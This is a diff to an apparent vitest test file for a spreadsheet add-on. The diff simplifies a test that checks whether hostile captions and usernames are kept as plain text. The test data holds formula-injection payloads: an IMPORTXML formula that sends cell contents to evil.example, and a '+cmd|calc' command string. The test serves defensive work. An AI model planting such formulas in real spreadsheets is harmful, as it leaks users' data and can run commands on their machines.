@@ -1,8 +1,7 @@
-import { gunzipSync, gzipSync } from 'node:zlib';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import type { InterceptedCall } from '../../dev/emulator/emulator';
 import type { Creator } from '../../dev/standin/creator';
-import { createAddon, standinTransport, KEY, type Addon, type AddonOptions } from '../setup/addon';
+import { createAddon, KEY, type Addon, type AddonOptions } from '../setup/addon';
 import { asked, cells, columnOf, contentForm, driven, idsIn, matching, pulled, sheetIdOf } from './content';
 import { refusal, reply, value } from './page';
 
@@ -358,7 +357,6 @@ describe('the sheet', () => {
   });
 
   test('captions, handles and links of strangers stay text', async () => {
-    await addon.close();
     const hostile = {
       captions: '=IMPORTXML("https://evil.example/?"&A1;"//a")',
       username: '+cmd|calc',
@@ -371,16 +369,10 @@ describe('the sheet', () => {
       platform: "'=1",
       contentType: { a: '=1' },
     };
-    const transport: ReturnType<typeof standinTransport> = {
-      send: async (requests, atMs) =>
-        (await standinTransport(addon.standin).send(requests, atMs)).map((sent, index) => {
-          if ('failed' in sent || !requests[index]?.url.includes('getContent')) return sent;
-          const page = JSON.parse(gunzipSync(sent.body).toString('utf8')) as { items: object[] };
-          const items = page.items.map((item) => ({ ...item, ...hostile }));
-          return { ...sent, body: new Uint8Array(gzipSync(JSON.stringify({ ...page, items }))) };
-        }),
-    };
-    await open({ transport } as AddonOptions);
+    addon.spoil = (page, url) =>
+      url.includes('getContent')
+        ? { ...page, items: (page['items'] as object[]).map((item) => ({ ...item, ...hostile })) }
+        : page;
     const done = await pulled(addon, { filters: FEW, thumbnails: true });
     const sheet = addon.emulator.spreadsheet.sheet(done.sheet);
     const width = (cells(addon, done.sheet)[0] ?? []).length;
